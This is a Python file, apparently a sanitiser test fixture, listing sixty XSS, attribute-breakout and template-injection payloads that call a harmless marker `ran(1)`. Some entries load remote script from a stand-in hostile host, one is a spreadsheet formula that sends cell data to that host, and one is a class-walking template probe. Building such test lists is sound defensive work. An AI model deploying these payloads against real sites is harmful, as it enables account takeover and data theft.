"""Sixty texts that would run, load or open something where a page took them for markup, script or a template.

All call `ran()`, which no page has, so that a browser notices the one that got through. Written for this project.
"""

RUN = "ran(1)"

IN_TEXT = (
    f"<script>{RUN}</script>",
    f"<SCRIPT >{RUN}</SCRIPT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=//hostile.example/x.js></script>",
    "<script type=module src=data:text/javascript,ran(1)></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror\n={RUN}>",
    f"<img/src=`x`onerror={RUN}>",
    f"<img srcset=x onerror={RUN} alt='a>b'>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>open</text></a></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    "<embed src=//hostile.example/x.swf>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}><summary>more</summary></details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<marquee onstart={RUN}>go</marquee>",
    f"<form action=javascript:{RUN}><button>send</button></form>",
    f"<button formaction=javascript:{RUN} form=x>send</button>",
    f"<a href=javascript:{RUN}>open</a>",
    f"<a href='java\tscript:{RUN}'>open</a>",
    f"<a href=' &#106;avascript:{RUN}'>open</a>",
    "<a href=data:text/html,<script>ran(1)</script>>open</a>",
    "<base href=//hostile.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<link rel=stylesheet href=//hostile.example/x.css>",
    "<style>@import '//hostile.example/x.css';</style>",
    "<p style=background:url(//hostile.example/x.png)>wide</p>",
    "<template><script>ran(1)</script></template>",
    "<x-hostile contenteditable>word</x-hostile>",
)

OUT_OF_WHERE_IT_STANDS = (
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" autofocus onfocus={RUN} x="',
    f"' autofocus onfocus={RUN} x='",
    f"` onmouseover={RUN} x=`",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</option></select><img src=x onerror={RUN}>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"';{RUN};//",
    f'";{RUN};//',
    f"${{{RUN}}}",
    f'javascript:{RUN}//"><svg onload={RUN}>',
    f"\u202e<script>{RUN}</script>\u202c",
    f"\ufeff\u2028<img src=x onerror={RUN}>",
    f'" hx-get="/sign-out" hx-trigger="load" hx-on:load="{RUN}',
    f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;img src=x onerror={RUN}&#62;",
)

IN_A_TEMPLATE = (
    "{{ 31336 + 1 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    '=HYPERLINK("//hostile.example/?"&A1,"{{ 31336 + 1 }}")',
)

HOSTILE = (*IN_TEXT, *OUT_OF_WHERE_IT_STANDS, *IN_A_TEMPLATE)
